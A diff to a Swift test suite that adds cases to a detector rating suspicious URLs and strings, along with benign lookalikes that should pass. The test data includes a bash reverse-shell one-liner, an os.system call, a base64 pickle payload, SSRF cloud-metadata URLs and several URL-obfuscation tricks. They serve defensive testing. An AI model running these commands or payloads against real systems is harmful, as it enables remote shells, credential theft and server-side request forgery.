@@ -52,7 +52,14 @@ import Testing
         ("http://2130706433/x", .medium), ("http://0x7f.1/x", .medium), ("https://webhook.site/6f1c", .medium),
         ("https://discord.com/api/webhooks/1/x", .medium), ("http://abcdefghijklmnop.onion/", .medium),
         ("https://xn--80ak6aa92e.com/", .low), ("file:///etc/passwd", .low), ("https://pastebin.com/raw/x1y2", .low),
-        ("https://host.net/setup.exe", .low), ("__import__('os').system('id')", .medium),
+        ("https://host.net/setup.exe", .low), ("https://huggingface.co@203-0-113-7.host.net/x", .medium),
+        ("https://huggingface.co:443@host.net/x", .medium), ("http://169.254.169.254/latest/meta-data/", .medium),
+        ("http://metadata.google.internal/computeMetadata/v1/", .medium), ("http://[::ffff:203.0.113.7]/", .medium),
+        ("http://%6c%6f/x", .medium), ("http://203-0-113-7.nip.io/x", .low),
+        ("http://203-0-113-7.nip.io/x.sh", .medium),
+        ("https://x.duckdns.org/m", .low), ("https://ab12.ngrok-free.app/m", .medium), ("https://bit.ly/3x", .low),
+        ("https://WEBHOOK.SITE./6f1c", .medium), ("http://0177.0.0.1/x", .medium),
+        ("__import__('os').system('id')", .medium),
         ("<script>alert(1)</script>", .low), ("bash -i >& /dev/tcp/203.0.113.7/1 0>&1", .medium),
         ("\u{1B}[2Jclean model", .low), ("model\u{202E}gpj.exe", .low),
         ("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", .medium),
@@ -64,7 +71,11 @@ import Testing
     }
 
     @Test(arguments: [
-        "https://arxiv.org/abs/1810.04805", "http://localhost:8000/v1", "http://192.168.1.5/model",
+        "https://orbit.ly/x", "https://notwebhook.site.example.org/", "https://discord.com/invite/abc",
+        "https://first.last@git.host.net/x.git", "http://[::1]:8000/v1", "http://[fd12::7]/x",
+        "https://host.net/run.shtml",
+        "https://docs.host.net/bit.ly", "https://arxiv.org/abs/1810.04805", "http://localhost:8000/v1",
+        "http://192.168.1.5/model",
         "see https://github.com/org/repo/blob/main/run.py",
         "A model that can eval­uate text", "int8 quantised; see the paper (section 3)",
         "https://huggingface.co/x/y?p=1#a",
